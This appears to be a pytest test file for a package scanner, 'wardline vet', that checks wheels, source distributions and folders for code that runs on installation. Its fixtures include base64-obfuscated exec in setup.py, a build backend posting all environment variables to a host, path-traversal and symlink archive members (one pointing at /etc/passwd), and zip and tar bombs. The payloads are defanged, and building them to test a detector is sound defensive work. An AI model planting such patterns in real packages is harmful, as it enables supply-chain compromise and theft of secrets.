"""`wardline vet` on wheels, source distributions and folders, made to do no harm; and on archives made to do some."""

from __future__ import annotations

import errno
import gzip
import io
import json
import os
import struct
import tarfile
import tracemalloc
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.cli.program import Program
from wardline.vet import contents

EVIL = "import base64\nexec(base64.b64decode('cGFzcw=='))\n"


def wheel(path: Path, files: dict[str, str]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(name, text)


def sdist(path: Path, files: dict[str, str], *, links: dict[str, str] | None = None) -> None:
    with tarfile.open(path, "w:gz") as archive:
        for name, target in (links or {}).items():
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = tarfile.SYMTYPE, target
            archive.addfile(entry)
        for name, text in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode()))


def test_verdicts(wardline: Program, folder: Path) -> None:
    wheel(folder / "good-1-py3-none-any.whl", {"good/__init__.py": "x = 1\n", "good/tests/t.py": EVIL})
    sdist(folder / "bad-1.tar.gz", {"bad-1/setup.py": "x = 1\n" + EVIL, "bad-1/bad/__init__.py": ""})
    (folder / "tree" / "pkg").mkdir(parents=True)
    (folder / "tree" / "pkg" / "__init__.py").write_text("import requests\nrequests.get('http://localhost')\n")
    assert wardline("vet", "good-1-py3-none-any.whl", cwd=folder) == (
        "good-1-py3-none-any.whl (wheel): clean: nothing suspicious runs by itself\n"
    )
    assert wardline("vet", "bad-1.tar.gz", cwd=folder, code=1).splitlines() == [
        "bad-1.tar.gz (source distribution): dangerous: do not install it",
        "  would run exec(base64.b64decode('cGFzcw=='))  runs code that is hidden in data, when it is installed  (setup.py, line 3)",
    ]
    assert "look at what it does by itself" in wardline("vet", "tree", cwd=folder)
    (file,) = json.loads(wardline("vet", "--format", "json", "bad-1.tar.gz", cwd=folder, code=1))["files"]
    assert (file["verdict"], file["evidence"][0]["line"], file["evidence"][0]["member"]) == ("dangerous", 3, "setup.py")


def test_a_closed_folder_is_not_called_clean(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def scan(directory: str) -> Any:
        if os.path.basename(directory) == "closed":
            raise PermissionError(errno.EACCES, "Permission denied", directory)
        return real(directory)

    real = os.scandir
    (folder / "closed").mkdir()
    monkeypatch.setattr(os, "scandir", scan)  # a folder's mode does not stop who runs the tests as root
    assert contents.contents(str(folder)).problems == ["closed: Permission denied"]


def test_an_own_build_backend_runs_on_installation(wardline: Program, folder: Path) -> None:
    project = '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["_build"]\n'
    backend = "import os, requests\ndef build_wheel(d):\n    requests.post('http://localhost', json=dict(os.environ))\n"
    sdist(folder / "b-1.tar.gz", {"b-1/pyproject.toml": project, "b-1/_build/own.py": backend})
    assert "when it is installed" in wardline("vet", "b-1.tar.gz", cwd=folder, code=1)


def test_nothing_is_unpacked_and_no_link_is_followed(wardline: Program, folder: Path) -> None:
    sdist(
        folder / "t-1.tar.gz",
        {"../escaped.py": EVIL, "/tmp/absolute.py": EVIL, "t-1/x.py": ""},
        links={"t-1/link.py": "/etc/passwd", "t-1/loop.py": "loop.py"},
    )
    text = wardline("vet", "t-1.tar.gz", cwd=folder, code=2)
    assert text.count("outside its folder") == 2 and not (folder.parent / "escaped.py").exists()
    assert "not looked at: t-1/link.py: it is a link" in text
    (folder / "tree").mkdir()
    (folder / "tree" / "up").symlink_to(folder)
    (folder / "tree" / "evil.py").symlink_to(folder / "evil.py")
    (folder / "evil.py").write_text(EVIL)
    assert wardline("vet", "tree", cwd=folder, code=2).splitlines()[1:] == ["  not looked at: evil.py: it is a link"]
    (folder / "tree" / "evil.py").unlink()
    assert "clean" in wardline("vet", "tree", cwd=folder)
    assert sorted(path.name for path in folder.iterdir()) == [".wardline.toml", "evil.py", "t-1.tar.gz", "tree"]


def test_members_of_a_wheel_that_lead_out(wardline: Program, folder: Path) -> None:
    wheel(folder / "a.whl", {"../x.py": EVIL, "/y.py": EVIL, "C:/z.py": EVIL, "..\\w.py": EVIL, "a.py": ""})
    assert wardline("vet", "a.whl", cwd=folder, code=2).count("outside its folder") == 4
    assert sorted(path.name for path in folder.iterdir()) == [".wardline.toml", "a.whl"]


def test_archives_that_describe_too_much(folder: Path) -> None:
    """A tar entry that says the next one's name in 64 MB; one that unpacks to gigabytes; a directory without end."""
    for kind in (tarfile.XHDTYPE, tarfile.GNUTYPE_LONGNAME):
        described = tarfile.TarInfo("x")
        described.type, described.size = kind, 64_000_000
        with gzip.open(folder / "a.tar.gz", "wb", 1) as file:
            file.write(described.tobuf(tarfile.USTAR_FORMAT))
            file.write(bytes(64_000_000))
        tracemalloc.start()
        found = contents.contents(str(folder / "a.tar.gz"))
        assert tracemalloc.get_traced_memory()[1] < 10_000_000 and "broken" in found.problems[0]
        tracemalloc.stop()
    large = tarfile.TarInfo("x/data.bin")
    large.size = 7 << 30
    with gzip.open(folder / "a.tar.gz", "wb") as file:
        file.write(large.tobuf(tarfile.USTAR_FORMAT) + bytes(100_000))
    assert "unpacks to more bytes" in contents.contents(str(folder / "a.tar.gz")).problems[0]
    with open(folder / "a.whl", "wb") as file:
        file.truncate(80_000_000)
        file.seek(80_000_000)
        file.write(b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, 9, 9, 70_000_000, 10_000_000, 0))
    tracemalloc.start()
    found = contents.contents(str(folder / "a.whl"))
    assert tracemalloc.get_traced_memory()[1] < 10_000_000 and "broken" in found.problems[0]
    tracemalloc.stop()


def test_broken_archives_and_bombs(wardline: Program, folder: Path) -> None:
    (folder / "a.whl").write_bytes(b"PK\x03\x04 no")
    (folder / "a.tar.gz").write_bytes(b"\x1f\x8b no")
    for name in ("a.whl", "a.tar.gz"):
        assert "the archive is broken" in wardline("vet", name, cwd=folder, code=2)
    wheel(folder / "big.whl", {"big.py": "#" * 50_000_000, **{f"m{n}.py": "#" * 3_900_000 for n in range(100)}})
    text = wardline("vet", "big.whl", cwd=folder, code=2)
    assert "larger than is looked at" in text and "unpacks to more bytes" in text
    assert contents.is_package("X.WHL")
